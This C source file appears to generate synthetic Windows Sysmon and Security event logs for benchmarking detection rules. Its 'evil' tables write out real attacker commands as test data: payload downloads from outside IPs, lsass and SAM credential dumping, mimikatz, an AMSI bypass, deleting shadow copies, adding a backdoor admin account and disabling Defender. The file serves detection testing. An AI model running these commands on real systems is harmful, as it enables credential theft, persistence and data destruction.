/* Synthetic Windows events (see gen_sysmon.h). Benign values come from
 * lists of common Windows software; the evil share (1 %) replays public
 * attacker tradecraft (LOLBins, credential dumping, persistence, encoded
 * PowerShell) of the kind SigmaHQ rules describe. Pure function of
 * (seed, index): the benchmark regenerates a batch to run both evaluators
 * over identical events. */
#include "gen_sysmon.h"
#include <stdio.h>

#define N(a) (sizeof(a) / sizeof((a)[0]))

struct rng { uint64_t s; };
static uint64_t rnext(struct rng *r)
{
    uint64_t z = (r->s += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}
static uint32_t rn(struct rng *r, uint32_t n) { return (uint32_t)(rnext(r) % n); }
#define PICK(r, a) ((a)[rn(r, (uint32_t)N(a))])

static const char *const hosts[] = {"WS-FIN-0142.corp.example.com", "WS-HR-0031.corp.example.com", "WS-DEV-0877.corp.example.com",
                                    "SRV-DC01.corp.example.com", "SRV-FILE02.corp.example.com", "WS-SALES-0210.corp.example.com",
                                    "LAPTOP-7QK2M9.corp.example.com", "SRV-SQL03.corp.example.com"};
static const char *const users[] = {"CORP\\alice.meyer", "CORP\\bob.okafor", "CORP\\chen.wei", "CORP\\dana.ruiz", "CORP\\svc_backup",
                                    "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "NT AUTHORITY\\NETWORK SERVICE",
                                    "CORP\\erik.lund", "CORP\\farah.haddad"};
static const char *const integrity[] = {"Medium", "High", "Medium", "Medium", "Low"};

struct proc {
    const char *image, *cmd, *orig, *desc, *product, *company, *cwd;
    int parent;          /* index of the usual parent in parents[] */
};
/* Usual parents: 0 services.exe, 1 explorer.exe, 2 svchost (DcomLaunch),
 * 3 userinit.exe, 4 chrome.exe, 5 msedge.exe, 6 Teams.exe, 7 Code.exe,
 * 8 cmd.exe, 9 firefox.exe */
static const struct { const char *image, *cmd; } parents[] = {
    {"C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe"},
    {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"},
    {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p"},
    {"C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe"},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window"},
    {"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\""},
    {"C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "\"C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\""},
    {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"C:\\Program Files\\Backup\\nightly.bat\""},
    {"C:\\Program Files\\Mozilla Firefox\\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\""},
};
static const struct proc benign[] = {
    {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "svchost.exe", "Host Process for Windows Services", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp", "svchost.exe", "Host Process for Windows Services", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%u --time-ticks-at-unix-epoch=-1700000000%u --mojo-platform-channel-handle=%u /prefetch:1", "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\", 1},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%u --field-trial-handle=%u,i,%u /prefetch:3", "msedge.exe", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\", 1},
    {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "EXPLORER.EXE", "Windows Explorer", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 3},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" /recycle", "Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "C:\\Users\\%s\\Documents\\", 1},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\%s\\Documents\\Quarterly report Q%u.docx\" /o \"\"", "WinWord.exe", "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "C:\\Users\\%s\\Documents\\", 1},
    {"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --enable-features=SharedArrayBuffer --lang=en-US --app-path=\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar\" --renderer-client-id=%u /prefetch:1", "Teams.exe", "Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\current\\", 1},
    {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff", "CONHOST.EXE", "Console Window Host", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 8},
    {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%u_ Global\\UsGthrCtrlFltPipeMssGthrPipe%u 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "Windows\xc2\xae Search", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe\"", "MsMpEng.exe", "Antimalware Service Executable", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "\"C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%u /prefetch:8", "electron.exe", "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "C:\\Users\\%s\\source\\repos\\billing-api\\", 1},
    {"C:\\Program Files\\Git\\cmd\\git.exe", "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch --no-tags --quiet origin", "git.exe", "Git for Windows", "Git", "The Git Development Community", "C:\\Users\\%s\\source\\repos\\billing-api\\", 7},
    {"C:\\Python311\\python.exe", "C:\\Python311\\python.exe -m pytest tests\\unit -q --maxfail=%u", "python.exe", "Python", "Python", "Python Software Foundation", "C:\\Users\\%s\\source\\repos\\billing-api\\", 7},
    {"C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "RuntimeBroker.exe", "Runtime Broker", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 2},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "backgroundTaskHost.exe", "Background Task Host", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 2},
    {"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background", "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "C:\\Program Files\\Microsoft OneDrive\\", 1},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -File C:\\Scripts\\Get-DiskReport.ps1 -Server SRV-FILE02", "PowerShell.EXE", "Windows PowerShell", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Scripts\\", 1},
    {"C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"C:\\Program Files\\Backup\\nightly.bat\"", "Cmd.Exe", "Windows Command Processor", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Program Files\\Backup\\", 0},
    {"C:\\Program Files\\Java\\jre1.8.0_391\\bin\\java.exe", "\"C:\\Program Files\\Java\\jre1.8.0_391\\bin\\java.exe\" -Xmx2048m -jar C:\\Apps\\inventory\\inventory-service-%u.jar --spring.profiles.active=prod", "java.exe", "Java(TM) Platform SE binary", "Java(TM) Platform SE 8", "Oracle Corporation", "C:\\Apps\\inventory\\", 0},
    {"C:\\Windows\\System32\\wuauclt.exe", "\"C:\\Windows\\system32\\wuauclt.exe\" /RunHandlerComServer", "wuauclt.exe", "Windows Update", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 0},
    {"C:\\Program Files\\Mozilla Firefox\\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" -contentproc --channel=%u -parentBuildID 20231211174248 -prefsLen 31337 -prefMapSize 235000 -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - %u tab", "firefox.exe", "Firefox", "Firefox", "Mozilla Corporation", "C:\\Program Files\\Mozilla Firefox\\", 1},
    {"C:\\Windows\\System32\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", "dllhost.exe", "COM Surrogate", "Microsoft\xc2\xae Windows\xc2\xae Operating System", "Microsoft Corporation", "C:\\Windows\\system32\\", 2},
};

/* Attacker tradecraft (image, command line, parent), modelled on public
 * reports and SigmaHQ rule descriptions. */
static const struct { const char *image, *cmd, *orig, *parent; } evil[] = {
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
    {"C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://185.220.101.%u/payload.exe C:\\Users\\Public\\payload.exe", "CertUtil.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %u C:\\Windows\\Temp\\lsass.dmp full", "RUNDLL32.EXE", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\whoami.exe", "whoami /priv", "whoami.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save", "reg.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc minute /mo 5 /tn \"MicrosoftEdgeUpdateTaskCore\" /tr \"C:\\Users\\Public\\update.exe\" /f", "schtasks.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer myjob /download /priority high http://45.133.1.%u/a.exe C:\\Users\\Public\\a.exe", "bitsadmin.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete", "wmic.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\net.exe", "net user backdoor P@ssw0rd123 /add", "net.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\net.exe", "net localgroup administrators backdoor /add", "net.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\mshta.exe", "mshta.exe http://update-check.example-cdn.net/page.hta", "MSHTA.EXE", "C:\\Windows\\explorer.exe"},
    {"C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s /n /u /i:http://45.133.1.%u/file.sct scrobj.dll", "REGSVR32.EXE", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "mimikatz.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", "bcdedit.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", "wevtutil.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c ping -n 1 127.0.0.1 > nul & del /f /q C:\\Users\\Public\\dropper.exe", "Cmd.Exe", "C:\\Users\\Public\\dropper.exe"},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.%u/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds\"", "PowerShell.EXE", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts", "nltestrk.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\netsh.exe", "netsh advfirewall firewall add rule name=\"allow rdp\" dir=in action=allow protocol=TCP localport=3389", "netsh.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -windowstyle hidden -c Set-MpPreference -DisableRealtimeMonitoring $true\"", "Cmd.Exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},
    {"C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /q /i http://45.133.1.%u/install.msi", "msiexec.exe", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Users\\Public\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp", "procdump", "C:\\Windows\\System32\\cmd.exe"},
    {"C:\\Windows\\System32\\sc.exe", "sc.exe create WinUpdSvc binPath= \"C:\\Users\\Public\\svc.exe\" start= auto", "sc.exe", "C:\\Windows\\System32\\cmd.exe"},
};

static const char *const dns_benign[] = {"www.google.com", "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com",
                                         "settings-win.data.microsoft.com", "github.com", "update.googleapis.com", "wpad.corp.example.com",
                                         "srv-dc01.corp.example.com", "ctldl.windowsupdate.com", "clients2.google.com", "fonts.gstatic.com"};
static const char *const dns_evil[] = {"4f2a9c.ngrok.io", "pastebin.com", "raw.githubusercontent.com", "transfer.sh", "api.telegram.org",
                                       "xmr-eu1.nanopool.org", "a3f1.trycloudflare.com", "anydesk.com"};
static const char *const reg_benign[] = {
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory",
    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignatureLocation",
    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities",
    "HKLM\\SOFTWARE\\Google\\Update\\ClientState\\{8A69D345-D564-463C-AFF1-A69D9E530F96}\\lastrun"};
static const char *const reg_evil[] = {
    "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger",
    "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"};
static const char *const files_benign[] = {
    "C:\\Users\\%s\\AppData\\Local\\Temp\\~DF%04X.tmp", "C:\\Users\\%s\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_%06x",
    "C:\\Windows\\Prefetch\\CHROME.EXE-%08X.pf", "C:\\Users\\%s\\Documents\\Quarterly report Q%u.docx",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\%02u\\%08X",
    "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Teams\\logs-%u.txt"};
static const char *const files_evil[] = {
    "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs",
    "C:\\Windows\\Temp\\lsass.dmp", "C:\\Users\\Public\\mimikatz.exe", "C:\\Windows\\System32\\Tasks\\MicrosoftEdgeUpdateTaskCore",
    "C:\\Users\\%s\\Downloads\\invoice_%u.pdf.exe"};
static const char *const dlls_benign[] = {"C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\combase.dll",
                                          "C:\\Windows\\System32\\user32.dll", "C:\\Windows\\System32\\crypt32.dll", "C:\\Windows\\System32\\wininet.dll",
                                          "C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll"};
static const char *const dlls_evil[] = {"C:\\Windows\\System32\\dbghelp.dll", "C:\\Windows\\System32\\vaultcli.dll", "C:\\Users\\Public\\version.dll",
                                        "C:\\Windows\\System32\\samlib.dll"};
static const char *const ps_benign[] = {
    "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
    "Import-Module ActiveDirectory\nGet-ADUser -Filter * -SearchBase 'OU=Sales,DC=corp,DC=example,DC=com' | Select-Object Name, Enabled",
    "$disks = Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\"\nforeach ($d in $disks) { \"{0} {1:N1} GB free\" -f $d.DeviceID, ($d.FreeSpace / 1GB) }",
    "prompt", "Set-StrictMode -Version 1; $this.Name"};
static const char *const ps_evil[] = {
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)); [AmsiUtils].GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
    "Invoke-Expression ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String($payload)))",
    "Get-WmiObject -Class Win32_ShadowCopy | ForEach-Object { $_.Delete() }"};

/* Arena-formatted string. */
static const char *fmt(struct vg_event *ev, const char *f, ...) VG_PRINTF(2, 3);
static const char *fmt(struct vg_event *ev, const char *f, ...)
{
    char buf[2048];
    va_list ap;
    va_start(ap, f);
    int n = vsnprintf(buf, sizeof buf, f, ap);
    va_end(ap);
    if (n < 0) n = 0;
    if ((size_t)n >= sizeof buf) n = sizeof buf - 1;
    return vg_arena_strndup(ev->arena, buf, (size_t)n);
}

/* Expands %s (user name) and %u / %X-style numbers of a template. */
static const char *tmpl(struct vg_event *ev, struct rng *r, const char *t, const char *user)
{
    if (!strchr(t, '%')) return t;
    char buf[2048];
    size_t k = 0;
    for (const char *p = t; *p && k < sizeof buf - 32; p++) {
        if (*p != '%') { buf[k++] = *p; continue; }
        const char *q = p + 1;
        while (*q >= '0' && *q <= '9') q++;
        int n;
        if (*q == 's') n = snprintf(buf + k, sizeof buf - k, "%s", user);
        else if (*q == 'X' || *q == 'x') n = snprintf(buf + k, sizeof buf - k, "%08X", (unsigned)rnext(r));
        else n = snprintf(buf + k, sizeof buf - k, "%u", 1 + rn(r, 250));
        if (n > 0) k += (size_t)n;
        if (!*q) break;
        p = q;
    }
    return vg_arena_strndup(ev->arena, buf, k);
}

static const char *short_user(const char *u)
{
    const char *b = strchr(u, '\\');
    return b ? b + 1 : u;
}

static const char *guid(struct vg_event *ev, struct rng *r)
{
    uint64_t a = rnext(r), b = rnext(r);
    return fmt(ev, "{%08X-%04X-%04X-%04X-%012llX}", (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xffff,
               (unsigned)(b >> 48), (unsigned long long)(b & 0xffffffffffffull));
}

static const char *hashes(struct vg_event *ev, struct rng *r)
{
    return fmt(ev, "SHA1=%016llX%08X,MD5=%016llX%016llX,SHA256=%016llX%016llX%016llX%016llX,IMPHASH=%016llX%016llX",
               (unsigned long long)rnext(r), (unsigned)rnext(r), (unsigned long long)rnext(r), (unsigned long long)rnext(r),
               (unsigned long long)rnext(r), (unsigned long long)rnext(r), (unsigned long long)rnext(r),
               (unsigned long long)rnext(r), (unsigned long long)rnext(r), (unsigned long long)rnext(r));
}

#define S(name, val) do { const char *v_ = (val); if (!v_ || vg_event_add_str(ev, vg_fid(name, strlen(name)), VG_FF_SOURCE, v_, strlen(v_)) != 0) return VG_ENOMEM; } while (0)
#define I(name, val) do { if (vg_event_add_int(ev, vg_fid(name, strlen(name)), VG_FF_SOURCE, (int64_t)(val)) != 0) return VG_ENOMEM; } while (0)

static int sys(struct vg_event *ev, struct rng *r, const char *channel, const char *provider, int eid, uint64_t i)
{
    S("Channel", channel);
    I("EventID", eid);
    S("Computer", PICK(r, hosts));
    S("Provider_Name", provider);
    I("EventRecordID", 1000000 + i);
    ev->ts = 1735689600000000000LL + (int64_t)i * 1000000LL;
    ev->format = "evtx-json";
    ev->host = "bench";
    return 0;
}

#define SYSMON "Microsoft-Windows-Sysmon/Operational"
#define SYSMON_P "Microsoft-Windows-Sysmon"

static int proc_create(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, SYSMON, SYSMON_P, 1, i)) return VG_ENOMEM;
    const char *user = PICK(r, users);
    const char *su = short_user(user);
    const struct proc *pp = &PICK(r, benign);
    const char *image, *cmd, *orig, *desc = pp->desc, *product = pp->product, *company = pp->company, *pimage, *pcmd;
    if (bad) {
        uint32_t k = rn(r, (uint32_t)N(evil));
        image = evil[k].image;
        cmd = tmpl(ev, r, evil[k].cmd, su);
        orig = evil[k].orig;
        pimage = evil[k].parent;
        pcmd = evil[k].parent;
        desc = "-";
        product = "-";
        company = "-";
    } else {
        image = tmpl(ev, r, pp->image, su);
        cmd = tmpl(ev, r, pp->cmd, su);
        orig = pp->orig;
        pimage = tmpl(ev, r, parents[pp->parent].image, su);
        pcmd = tmpl(ev, r, parents[pp->parent].cmd, su);
    }
    S("RuleName", "-");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("Image", image);
    S("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)");
    S("Description", desc);
    S("Product", product);
    S("Company", company);
    S("OriginalFileName", orig);
    S("CommandLine", cmd);
    S("CurrentDirectory", tmpl(ev, r, pp->cwd, su));
    S("User", user);
    S("LogonGuid", guid(ev, r));
    S("LogonId", fmt(ev, "0x%X", (unsigned)rn(r, 0xfffff)));
    I("TerminalSessionId", rn(r, 3));
    S("IntegrityLevel", strncmp(user, "NT AUTHORITY", 12) == 0 ? "System" : PICK(r, integrity));
    S("Hashes", hashes(ev, r));
    S("ParentProcessGuid", guid(ev, r));
    I("ParentProcessId", 1000 + rn(r, 60000));
    S("ParentImage", pimage);
    S("ParentCommandLine", pcmd);
    S("ParentUser", user);
    return 0;
}

static int security_4688(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, "Security", "Microsoft-Windows-Security-Auditing", 4688, i)) return VG_ENOMEM;
    const char *user = PICK(r, users);
    const struct proc *pp = &PICK(r, benign);
    uint32_t k = rn(r, (uint32_t)N(evil));
    S("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104");
    S("SubjectUserName", short_user(user));
    S("SubjectDomainName", "CORP");
    S("SubjectLogonId", "0x3e7");
    S("NewProcessId", fmt(ev, "0x%x", (unsigned)rn(r, 0xffff)));
    S("NewProcessName", bad ? evil[k].image : tmpl(ev, r, pp->image, short_user(user)));
    S("TokenElevationType", "%%1938");
    S("ProcessId", fmt(ev, "0x%x", (unsigned)rn(r, 0xffff)));
    S("CommandLine", bad ? tmpl(ev, r, evil[k].cmd, short_user(user)) : tmpl(ev, r, pp->cmd, short_user(user)));
    S("TargetUserSid", "S-1-0-0");
    S("ParentProcessName", bad ? evil[k].parent : tmpl(ev, r, parents[pp->parent].image, short_user(user)));
    S("MandatoryLabel", "S-1-16-8192");
    return 0;
}

static int network(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, SYSMON, SYSMON_P, 3, i)) return VG_ENOMEM;
    static const int netproc[] = {2, 3, 7, 12, 17, 22, 0}; /* browsers, Teams, Code, OneDrive, svchost */
    const struct proc *pp = &benign[PICK(r, netproc)];
    const char *user = PICK(r, users);
    static const int ports[] = {443, 443, 443, 443, 80};
    int port = bad ? (int[]){4444, 1337, 3389, 5985, 9001}[rn(r, 5)] : ports[rn(r, (uint32_t)N(ports))];
    S("RuleName", "-");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("Image", bad ? (rn(r, 2) ? "C:\\Windows\\System32\\rundll32.exe" : "C:\\Users\\Public\\update.exe") : tmpl(ev, r, pp->image, short_user(user)));
    S("User", user);
    S("Protocol", "tcp");
    S("Initiated", "true");
    S("SourceIsIpv6", "false");
    S("SourceIp", fmt(ev, "10.20.%u.%u", rn(r, 8), 10 + rn(r, 200)));
    S("SourceHostname", PICK(r, hosts));
    I("SourcePort", 49152 + rn(r, 16000));
    S("SourcePortName", "-");
    S("DestinationIsIpv6", "false");
    if (bad) S("DestinationIp", fmt(ev, "185.220.101.%u", rn(r, 250)));
    else S("DestinationIp", fmt(ev, "%u.%u.%u.%u", 13 + rn(r, 190), rn(r, 250), rn(r, 250), 1 + rn(r, 250)));
    S("DestinationHostname", bad ? "-" : PICK(r, dns_benign));
    I("DestinationPort", port);
    S("DestinationPortName", port == 443 ? "https" : port == 80 ? "http" : "-");
    return 0;
}

static int file_create(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, SYSMON, SYSMON_P, 11, i)) return VG_ENOMEM;
    const struct proc *pp = &PICK(r, benign);
    const char *user = PICK(r, users);
    const char *su = short_user(user);
    S("RuleName", "-");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("Image", bad ? evil[rn(r, (uint32_t)N(evil))].image : tmpl(ev, r, pp->image, su));
    S("TargetFilename", tmpl(ev, r, bad ? PICK(r, files_evil) : PICK(r, files_benign), su));
    S("CreationUtcTime", "2025-01-01 11:59:58.120");
    S("User", user);
    return 0;
}

